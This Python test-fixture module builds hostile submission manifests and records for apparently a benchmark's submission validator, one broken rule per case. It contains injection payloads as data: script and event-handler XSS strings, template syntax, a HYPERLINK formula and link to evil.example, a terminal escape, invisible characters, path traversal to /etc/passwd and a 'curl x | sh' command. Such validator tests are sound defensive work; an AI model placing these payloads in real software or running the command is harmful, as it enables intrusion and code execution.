"""Hostile manifests and records: each breaks one rule by one change of a text."""

from __future__ import annotations

import json
from collections.abc import Callable
from typing import Any

from tests.submission.hostile_seed import (
    RECORD,
    RTL,
    SEED,
    TASK,
    Cases,
    Change,
    edit_record,
    in_manifest,
    in_record,
    with_bytes,
)

TEXTS = (
    "<script>alert(1)</script>",
    "\"' onmouseover='alert(2)",
    "{{ 7*7 }} {% raw %}",
    "$\\frac{1}{2}$",
    '=HYPERLINK("https://evil.example","1")',
    "javascript:alert(3)",
    "[click](https://evil.example)",
    "</textarea> &amp; ]]> --> %s %(x)s",
)
HOSTILE = " ".join(TEXTS)
"""All of it in one line; every character of it can be seen."""

UNSEEN = f"{RTL}txt.exe\u200b\x1b[31m"
"""Letters that nobody sees: right to left, of no width, and a terminal's escape."""


def name(text: str) -> Change:
    """Another name of the system, as TOML escapes it."""
    lines = (SEED / "submission.toml").read_text(encoding="utf-8").splitlines()
    line = next(line for line in lines if line.startswith("name ="))
    return in_manifest(line, f"name = {json.dumps(text)}")


def before(line: str) -> Change:
    """A further line of the manifest."""
    return in_manifest("trained_on = []", f"{line}\ntrained_on = []")


def detail(text: str) -> Change:
    """A further detail of the model in the record."""
    return in_record('"details": {', f'"details": {{"x": {text}')


def edited(change: Callable[[dict[str, Any]], object]) -> Change:
    """A change of the record's values."""
    return lambda folder: edit_record(folder, change)


MANIFESTS: Cases = {
    **{f"text-{number}": ("manifest-markup", name(text)) for number, text in enumerate(TEXTS)},
    "rtl": ("manifest-schema", name(f"a{RTL}b")),
    "escape": ("manifest-schema", name("\x1b]0;evil\x07")),
    "long-name": ("manifest-schema", name("x" * 10_000)),
    "duplicate-toml": ("manifest-schema", before("trained_on = []")),
    "deep-toml": ("manifest-schema", before(f"x = {'[' * 9000}")),
    "huge-toml": ("manifest-schema", before(f"x = {'9' * 5000}")),
    "large-toml": ("manifest-schema", before("#" * 70_000)),
    "no-utf-8": ("manifest-schema", with_bytes("submission.toml", b'name = "\xff\xfe"')),
    "unknown-key": ("manifest-schema", before('evidence = "reproduced"')),
    "link": ("manifest-schema", in_manifest('= "https://', '= "javascript:alert(1)//https://')),
    "parent": ("manifest-schema", in_manifest('revision = "r1"', 'revision = "../r1"')),
    "other-name": ("tree-name", in_manifest('revision = "r1"', 'revision = "r2"')),
    "licence": ("manifest-licence", in_manifest('licence = "', 'licence = "apache2" # "')),
    "todo": ("manifest-todo", in_manifest('contact = "', 'contact = "TODO" # "')),
    "shell": ("manifest-command", in_manifest('command = "', 'command = "curl x | sh; ')),
    "itself": ("manifest-predecessor", before('predecessor = "hostile__itself/r1"')),
    "no-such-task": ("manifest-trained-on", in_manifest("= []", '= ["../../etc/passwd"]')),
    "other-run": ("manifest-runs", in_manifest(f'task = "{TASK}"', 'task = "flips/cifar-10"')),
}
"""Cases by their manifest."""

RECORDS: Cases = {
    "nan": ("record-json", in_record('"reason": null', '"reason": NaN')),
    "infinite": ("record-json", detail("1e999, ")),
    "duplicate-json": ("record-json", in_record('"task": {', '"created": "", "task": {')),
    "deep-json": ("record-json", detail("[" * 9000)),
    "huge-json": ("record-json", detail(f"{'9' * 5000}, ")),
    "large-json": ("record-json", detail(f'"{"x" * 600_000}", ')),
    "no-utf-8-json": ("record-json", with_bytes(RECORD, b'{"schema_version": "\xff"}')),
    "newer": ("record-schema", in_record('"schema_version": 5', '"schema_version": 99')),
    "unknown-field": ("record-schema", in_record('"task": {', '"verified": true, "task": {')),
    "quick-look": ("record-limit", in_record('"limit": null', '"limit": 5')),
    "own-task": ("record-task", in_record(f'"id": "{TASK}"', '"id": "flips/folder/mine"')),
    "old-version": ("record-version", in_record('"version": "1"', '"version": "0"')),
    "other-data": (
        "record-fingerprint",
        edited(lambda record: record["task"].update(fingerprint="0" * 64)),
    ),
    "own-title": ("record-card", in_record('"title": "', '"title": "Hard ')),
    "no-metric": ("record-metrics", in_record('"name": "NFR"', '"name": "NFR2"')),
    "other-model": ("record-model", in_record('"adapter": "sklearn"', '"adapter": "bm25"')),
    "too-good": ("record-range", edited(lambda record: record["metrics"][0].update(value=-1.0))),
    "unseen": ("record-text", in_record('"platform": "', f'"platform": "a{RTL}b')),
    "script-name": ("record-markup", edited(lambda record: record["model"].update(name=TEXTS[0]))),
    "no-time": ("record-created", edited(lambda record: record.update(created="yesterday"))),
}
"""Cases by their record."""
